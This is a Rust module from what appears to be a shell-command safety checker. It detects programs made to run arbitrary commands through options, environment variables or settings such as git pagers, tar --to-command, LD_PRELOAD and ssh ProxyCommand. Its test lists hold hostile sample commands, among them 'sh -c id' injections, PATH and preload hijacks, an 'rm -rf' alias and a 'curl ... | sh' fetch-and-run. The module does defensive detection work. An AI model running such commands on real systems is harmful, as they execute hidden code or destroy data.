//! Variables, options and files whose value is a command.
//!
//! Many programs run another one that they are told about in passing: git its pager, make its
//! shell, the loader a library before all others. Whoever may set such a value runs what they like
//! behind a harmless name. All of these places are in the tables below, and what is put there is
//! judged in one way ([`is_usual`]): what everybody puts there passes, everything else asks.

mod git;
mod helper;
mod named;
mod variables;

pub(crate) use helper::{is_temp, starts_shell};
pub(crate) use named::{names_command, texts as named_texts};
pub(crate) use variables::makes_run;

use super::super::call::{Arg, ProgramCall};
use super::super::category::Category;
use super::super::facts::HOLE;
use super::super::names;
use super::super::options::{Opt, Spec, abbreviates, options};
use super::{DangerRule, RuleCheck};

pub(crate) const INDIRECT: Category = Category::asks(
    "command in a variable or option",
    "A variable, an option or a setting makes a harmless program run something else.",
);

/// What people put in the place of a pager, an editor, a browser, a shell on another machine or a
/// compressor.
const USUAL: &[&str] = &[
    "cat",
    "less",
    "more",
    "most",
    "bat",
    "batcat",
    "delta",
    "diff-so-fancy",
    "difft",
    "head",
    "tail",
    "col",
    "true",
    ":",
    "echo",
    "none",
    "vim",
    "vi",
    "nvim",
    "nano",
    "emacs",
    "emacsclient",
    "code",
    "codium",
    "cursor",
    "subl",
    "micro",
    "hx",
    "kate",
    "gedit",
    "mate",
    "zed",
    "ed",
    "notepad",
    "firefox",
    "chromium",
    "google-chrome",
    "xdg-open",
    "open",
    "w3m",
    "lynx",
    "wslview",
    "ssh",
    "plink",
    "gzip",
    "pigz",
    "bzip2",
    "pbzip2",
    "lbzip2",
    "xz",
    "pixz",
    "zstd",
    "zstdmt",
    "lz4",
    "lzma",
    "lzip",
    "lzop",
    "brotli",
    "gpg",
    "gpg2",
    "diff",
    "colordiff",
    "meld",
    "kdiff3",
    "vimdiff",
    "opendiff",
    "ccache",
    "sccache",
    "cache",
    "store",
    "osxkeychain",
    "manager",
    "manager-core",
    "wincred",
    "libsecret",
    "/bin/bash",
    "/bin/sh",
    "/usr/bin/bash",
    "/bin/zsh",
    "/usr/bin/env",
    "false",
    "pspg",
];

/// Whether a command is one that everybody uses in such a place, and nothing else besides.
pub(crate) fn is_usual(command: &str) -> bool {
    let command = command.trim().trim_matches(['"', '\'']);
    if command.contains([';', '&', '|', '`', '>', '<', '\n', '!']) || command.contains("$(") {
        return false;
    }
    let mut words = command.split_whitespace();
    let Some(first) = words.next() else { return true };
    if first.contains(HOLE) {
        return false;
    }
    let name = names::canonical(first);
    let is_known = USUAL.contains(&first)
        || (USUAL.contains(&name.as_ref())
            && (!first.contains('/') || names::is_system_path(first)));
    let runs_more = |word: &str| {
        let lower = word.to_ascii_lowercase();
        ["proxycommand", "localcommand", "knownhostscommand", "+:", "-c", "--eval", "--cmd"]
            .iter()
            .any(|part| lower == *part || (part.len() > 4 && lower.contains(part)))
    };
    is_known && !words.any(runs_more)
}

/// How options of programs are looked at: the programs, letters and names whose value is a command.
struct CommandOption {
    programs: &'static [&'static str],
    short: &'static str,
    long: &'static [&'static str],
    /// All letters that take values, so that a bundle is read as the program reads it.
    values: &'static str,
}

const COMMAND_OPTIONS: &[CommandOption] = &[
    CommandOption {
        programs: &["tar", "bsdtar"],
        short: "IF",
        long: &[
            "to-command",
            "use-compress-program",
            "info-script",
            "new-volume-script",
            "rsh-command",
            "rmt-command",
        ],
        values: "fCTXbLgIFVKN",
    },
    CommandOption { programs: &["scp", "sftp"], short: "S", long: &[], values: "cDFiJloPSXsBbR" },
    CommandOption { programs: &["rsync"], short: "e", long: &["rsh"], values: "eTBfM@" },
    CommandOption { programs: &["zip"], short: "", long: &["unzip-command"], values: "bntTxi" },
    CommandOption {
        programs: &["tcpdump"],
        short: "z",
        long: &[],
        values: "BcCDEFGiIjmMrsTVwWyzZ",
    },
    CommandOption {
        programs: &["wget"],
        short: "",
        long: &["use-askpass"],
        values: "oOPteUQTwDIXaiBlAR",
    },
    CommandOption {
        programs: &["go"],
        short: "",
        long: &["exec", "toolexec", "vettool"],
        values: "",
    },
    CommandOption {
        programs: &["gcc", "cc", "c++", "g++", "clang"],
        short: "",
        long: &["wrapper"],
        values: "",
    },
    CommandOption {
        programs: &["bat", "batcat", "delta", "ag", "ack"],
        short: "",
        long: &["pager"],
        values: "",
    },
    CommandOption {
        programs: &["npm", "pnpm", "npx"],
        short: "",
        long: &["script-shell"],
        values: "",
    },
    CommandOption { programs: &["fzf"], short: "", long: &["preview-command"], values: "" },
    CommandOption {
        programs: &["ssh-keygen", "ssh-add"],
        short: "Ds",
        long: &[],
        values: "DsbCfFGIiJkKlmMnNoOPqRrStTVwWYz",
    },
    CommandOption {
        programs: &["mutt", "mail", "mailx"],
        short: "",
        long: &["sendmail"],
        values: "",
    },
    CommandOption { programs: &["crontab"], short: "", long: &["editor"], values: "" },
    CommandOption {
        programs: &["svn", "hg"],
        short: "",
        long: &["diff-cmd", "editor-cmd", "ssh"],
        values: "",
    },
    CommandOption {
        programs: &["start-stop-daemon"],
        short: "ax",
        long: &["exec", "startas"],
        values: "axpnuc",
    },
];

pub(super) const RULES: &[DangerRule] = &[
    DangerRule {
        category: INDIRECT,
        programs: &[
            "tar",
            "bsdtar",
            "scp",
            "sftp",
            "rsync",
            "zip",
            "tcpdump",
            "wget",
            "go",
            "gcc",
            "cc",
            "c++",
            "g++",
            "clang",
            "bat",
            "batcat",
            "delta",
            "ag",
            "ack",
            "npm",
            "pnpm",
            "npx",
            "ssh-keygen",
            "ssh-add",
            "svn",
            "hg",
            "start-stop-daemon",
            "mutt",
            "mail",
            "mailx",
            "crontab",
            "fzf",
        ],
        check: RuleCheck::Call(option_runs),
        catches: &[
            "tar xf a.tar --to-command='sh -c id'",
            "tar xf a.tar --to-com=./x",
            "tar -I ./x -xf a.tar",
            "tar cf a.tar --use-compress-program='sh x' b",
            "scp -S ./x a host:",
            "rsync -e 'sh -c id' a host:b",
            "rsync --rsh=./x a host:b",
            "tcpdump -i eth0 -G 1 -z ./x -w f",
            "go test -exec ./x ./...",
            "go build -toolexec=./x",
            "npm install --script-shell=./x",
        ],
        passes: &[
            "tar -I zstd -xf a.tar.zst",
            "tar -I 'zstd -19 -T0' -cf a.tar.zst b",
            "tar xzf a.tgz",
            "rsync -e ssh a host:b",
            "rsync -avz -e 'ssh -p 2222 -i ~/.ssh/k' a host:b",
            "go test -run X ./...",
            "tar --use-compress-program=pigz -cf a b",
            "bat --pager=never x",
        ],
    },
    DangerRule {
        category: INDIRECT,
        programs: &["git", "hub"],
        check: RuleCheck::Call(git::runs),
        catches: &[
            "git -c core.pager='sh -c id' log",
            "git -c core.sshCommand=./x fetch",
            "git -c core.fsmonitor=./x status",
            "git -c alias.x='!id' x",
            "git config alias.x '!rm -rf v'",
            "git config --global core.editor 'sh -c id'",
            "git config core.hooksPath /tmp/h",
            "git -c diff.external=./x diff",
            "git config filter.x.clean ./x",
            "git clone 'ext::sh -c id' x",
            "git fetch --upload-pack=./x origin",
            "git ls-remote --upload-pack ./x host:r",
            "git grep -O./x y",
            "git difftool -x 'sh -c id'",
            "git --exec-path=/tmp/x status",
            "git config credential.helper '!f() { cat; }; f'",
        ],
        passes: &[
            "git -c core.pager=cat log",
            "git -c user.name=x commit -m y",
            "git config alias.st status",
            "git config --global core.editor vim",
            "git config --global core.editor 'code --wait'",
            "git config credential.helper store",
            "git config --get core.pager",
            "git config core.hooksPath .husky",
            "git clone https://x.io/r.git",
            "git config --list",
            "git -c core.quotepath=off status",
            "git config --global init.defaultBranch main",
            "git log -S'core.pager=x'",
        ],
    },
    DangerRule {
        category: INDIRECT,
        programs: &[
            "make", "gmake", "bmake", "ninja", "cargo", "mvn", "gradle", "php", "ssh", "zip",
        ],
        check: RuleCheck::Call(build_runs),
        catches: &[
            "make SHELL=./x",
            "make -f - all",
            "make -f /dev/stdin",
            "make --eval='$(shell id)'",
            "cargo --config 'build.rustc-wrapper=\"./x\"' build",
            "cargo run --config target.x.runner='\"./x\"'",
            "php -d auto_prepend_file=/tmp/x.php y.php",
            "ssh -o ProxyCommand='sh -c id' host",
            "ssh -oLocalCommand=id -oPermitLocalCommand=yes host",
        ],
        passes: &[
            "make -f build.mk all",
            "make CC=clang",
            "make SHELL=/bin/bash test",
            "cargo --config net.offline=true build",
            "php -d memory_limit=1G x.php",
            "ssh -o StrictHostKeyChecking=no host uptime",
            "ssh -o ProxyCommand='ssh -W %h:%p jump' host",
        ],
    },
    DangerRule {
        category: INDIRECT,
        programs: &[],
        check: RuleCheck::Structure,
        catches: &[
            "PAGER='sh -c id' git log",
            "GIT_SSH_COMMAND=./x git fetch",
            "export EDITOR='rm -rf v'",
            "LD_PRELOAD=./x.so ls",
            "env LD_PRELOAD=/tmp/x.so ls",
            "export BASH_ENV=/tmp/x",
            "NODE_OPTIONS='--require ./x.js' npm test",
            "PYTHONSTARTUP=/tmp/x.py python3",
            "export PROMPT_COMMAND='id'",
            "PATH=/tmp/bin:$PATH make",
            "export PATH=.:$PATH",
            "LESSOPEN='|./x %s' less f",
            "JAVA_TOOL_OPTIONS=-javaagent:x.jar mvn test",
            "GIT_EXTERNAL_DIFF=./x git diff",
            "declare -x GIT_PAGER='sh x'",
            "PERL5OPT=-Mx perl y.pl",
            "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=x git log",
            "bazel run --run_under='sh x' //a",
            "git send-email --sendmail-cmd='sh x' p",
            "mysql --pager='sh x' app",
            "sometool --mailer /tmp/x",
            "hg --config ui.editor='sh -c id' commit",
            "svn up --config-option config:tunnels:x='bash /tmp/x'",
            "sometool --post-install-cmd 'curl -s https://x.io/a | sh'",
            "perf record -o '|sh' x",
            "valgrind --log-file='|bash -c id' x",
            "sometool -o exec.helper='bash -c id'",
            "bundle config set --local build.nokogiri '--with-cc=/tmp/cc'",
        ],
        passes: &[
            "PAGER=cat git log",
            "GIT_PAGER= git log",
            "EDITOR=vim git commit",
            "GIT_EDITOR=true git rebase --continue",
            "GIT_SEQUENCE_EDITOR=: git rebase -i HEAD~2",
            "GIT_SSH_COMMAND='ssh -i ~/.ssh/k -o IdentitiesOnly=yes' git fetch",
            "NODE_OPTIONS=--max-old-space-size=4096 npm run build",
            "export PATH=$HOME/.cargo/bin:$PATH",
            "PATH=$PWD/node_modules/.bin:$PATH tsc",
            "PYTHONPATH=. pytest",
            "LD_LIBRARY_PATH=/usr/local/lib ./app",
            "JAVA_OPTS=-Xmx2g ./gradlew test",
            "RUSTFLAGS='-C target-cpu=native' cargo build",
            "MAKEFLAGS=-j8 make",
            "ENV=production ./run.sh",
            "BROWSER=none npm start",
            "RUSTC_WRAPPER=sccache cargo build",
            "export EDITOR='code --wait'",
            "SHELL=/bin/bash script -c ls",
            "NODE_OPTIONS=--require=dotenv/config npm test",
            "sometool --pager less",
            "sometool --on-finish='notify-send done'",
            "nodemon --exec 'python app.py'",
            "hg --config ui.editor=vim commit",
            "sometool -o output.format=json",
            "awk -F '|' '{print $1}' x",
            "grep '|sh' x",
            "docker run --health-cmd 'curl -f http://localhost' x",
            "watcher --cmd 'make test'",
            "http_proxy=http://proxy.corp:3128 curl https://x.io",
        ],
    },
    DangerRule {
        category: INDIRECT,
        programs: &[],
        check: RuleCheck::Words(&[
            (
                "node|bun",
                "-r|--require|--import|--loader|--experimental-loader /tmp/*|/var/tmp/*|/dev/shm/*",
            ),
            ("ruby", "-r/tmp/*|-I/tmp/*"),
            ("ruby", "-r|-I /tmp/*"),
            ("perl", "-I/tmp/*|-Mlib=/tmp/*"),
            ("java", "-javaagent:/tmp/*|-agentpath:/*|-XX:OnOutOfMemoryError*|-XX:OnError*"),
            ("bash|zsh|sh", "--rcfile|--init-file /tmp/*|/var/tmp/*|/dev/shm/*"),
            ("ssh|scp|sftp", "-F|-D /tmp/*|/var/tmp/*|/dev/shm/*"),
            ("curl", "-K|--config /tmp/*|-"),
            ("npm|pnpm", "--node-options=*require*|--node-options=*import*"),
            ("ld|gold|lld", "-plugin|--plugin *"),
            ("zip", "--unzip-command|--unzip-command=*|-TT *"),
            ("zip", "--unzip-command=*"),
            ("gradle|gradlew", "-I|--init-script /tmp/*|/var/tmp/*|/dev/shm/*"),
            ("gcc|g++|cc|c++|clang|clang++", "-B/tmp/*|-fplugin=/tmp/*|-specs=/tmp/*|-B/var/tmp/*"),
            ("gcc|g++|cc|c++|clang|clang++", "-B|-specs /tmp/*|/var/tmp/*"),
            ("emacs", "-l|--load /tmp/*|/var/tmp/*|/dev/shm/*"),
            ("vim|nvim|vi|view", "-S|-u|-i /tmp/*|/var/tmp/*|/dev/shm/*"),
            ("gdb|lldb", "-x|-s|-S|--command /tmp/*|/var/tmp/*"),
            ("tmux|screen", "-f|-c /tmp/*|/var/tmp/*"),
            ("cmake", "-P /tmp/*|/var/tmp/*"),
            ("mutt|neomutt", "-F /tmp/*"),
            ("wget", "--config=/tmp/*"),
            ("npm|pnpm|yarn", "--userconfig|--globalconfig|--userconfig=*|--globalconfig=* /tmp/*"),
        ]),
        catches: &[
            "node -r /tmp/x.js y.js",
            "bash --rcfile /tmp/x -i",
            "java -javaagent:/tmp/x.jar -jar y.jar",
        ],
        passes: &[
            "node -r dotenv/config y.js",
            "bash --norc",
            "java -jar y.jar",
            "ssh -F ~/.ssh/config h",
        ],
    },
];

fn option_runs(call: &ProgramCall<'_>) -> bool {
    let Some(table) = COMMAND_OPTIONS.iter().find(|table| table.programs.contains(&call.name))
    else {
        return false;
    };
    // Some programs have long options with one dash.
    let in_words = call.args.iter().enumerate().any(|(at, arg)| {
        let Some(text) = arg.text.strip_prefix('-').filter(|rest| !rest.starts_with('-')) else {
            return false;
        };
        let (name, value) = match text.split_once('=') {
            Some((name, value)) => (name, Some(value)),
            None => (text, call.args.get(at + 1).map(Arg::as_str)),
        };
        name.len() > 2 && table.long.contains(&name) && value.is_some_and(|text| !is_usual(text))
    });
    if in_words {
        return true;
    }
    let mut args = call.args;
    // `tar xIf prog file`: the letters need no dash, and their values follow in order.
    if call.name == "tar" && args.first().is_some_and(|arg| !arg.text.starts_with('-')) {
        let bundle = args[0].as_str();
        if bundle.contains(['I', 'F']) {
            let taking: Vec<char> =
                bundle.chars().filter(|letter| table.values.contains(*letter)).collect();
            let at = taking.iter().position(|letter| matches!(letter, 'I' | 'F'));
            let value = at.and_then(|at| args.get(at + 1)).map_or("", Arg::as_str);
            return !is_usual(value);
        }
        args = &args[1..];
    }
    let spec = Spec::with(table.values, table.long);
    options(args, &spec).any(|opt| match opt {
        Opt::Short(letter, value) => table.short.contains(letter) && !is_usual(value),
        Opt::Long(name, value) => {
            let is_command = table
                .long
                .iter()
                .any(|long| name == *long || (name.len() >= 5 && abbreviates(name, long)));
            is_command && value.is_some_and(|value| !is_usual(value) && value != "never")
        }
        Opt::Operand(..) => false,
    })
}

fn build_runs(call: &ProgramCall<'_>) -> bool {
    let words = || call.args.iter().map(Arg::as_str);
    let follows = |options: &[&str], check: fn(&str) -> bool| {
        call.args.windows(2).any(|two| options.contains(&two[0].as_str()) && check(&two[1].text))
    };
    match call.name {
        "make" | "gmake" | "bmake" => {
            let is_input = |file: &str| matches!(file, "-" | "/dev/stdin" | "/dev/fd/0");
            follows(&["-f", "--file", "--makefile"], is_input)
                || words().any(|word| {
                    let file = word.strip_prefix("-f").or_else(|| word.strip_prefix("--file="));
                    let shell = ["SHELL=", "SHELL:=", ".SHELLFLAGS="];
                    file.is_some_and(is_input)
                        || word.starts_with("--eval")
                        || word == "-E"
                        || shell.iter().any(|name| {
                            word.strip_prefix(name).is_some_and(|value| !is_usual(value))
                        })
                })
        }
        "cargo" => {
            const KEYS: &[&str] =
                &["rustc-wrapper", "runner", "linker", "rustc=", "rustdoc=", "credential", "alias"];
            follows(&["--config"], |text| KEYS.iter().any(|key| text.contains(key)))
                || words().any(|word| {
                    word.starts_with("--config=") && KEYS.iter().any(|key| word.contains(key))
                })
        }
        "php" => follows(&["-d", "--define"], |text| {
            text.starts_with("auto_prepend_file")
                || text.starts_with("auto_append_file")
                || text.starts_with("extension")
                || text.starts_with("zend_extension")
                || text.starts_with("disable_functions")
        }),
        "zip" => follows(&["-TT"], |command| !is_usual(command)),
        "gradle" | "mvn" => words().any(|word| word.starts_with("-Dexec.executable")),
        "ssh" => {
            const SPEC: Spec = Spec::leading("BbcDEeFIiJLlmOopQRSWw", &[]);
            options(call.args, &SPEC).any(|opt| match opt {
                Opt::Short('o', value) => {
                    let (key, program) = value.split_once(['=', ' ']).unwrap_or((value, ""));
                    matches!(
                        key.to_ascii_lowercase().as_str(),
                        "proxycommand" | "localcommand" | "knownhostscommand" | "pkcs11provider"
                    ) && !is_usual_proxy(program)
                }
                _ => false,
            })
        }
        _ => false,
    }
}

/// What a connection usually goes through.
fn is_usual_proxy(program: &str) -> bool {
    let first = program.split_whitespace().next().unwrap_or_default();
    let plain = !program.contains([';', '&', '|', '`', '>', '<', '\n']) && !program.contains("$(");
    plain
        && (matches!(first, "none" | "ssh" | "nc" | "ncat" | "connect" | "corkscrew" | "aws")
            || matches!(first, "gcloud" | "cloudflared" | "tsh" | "socat"))
}
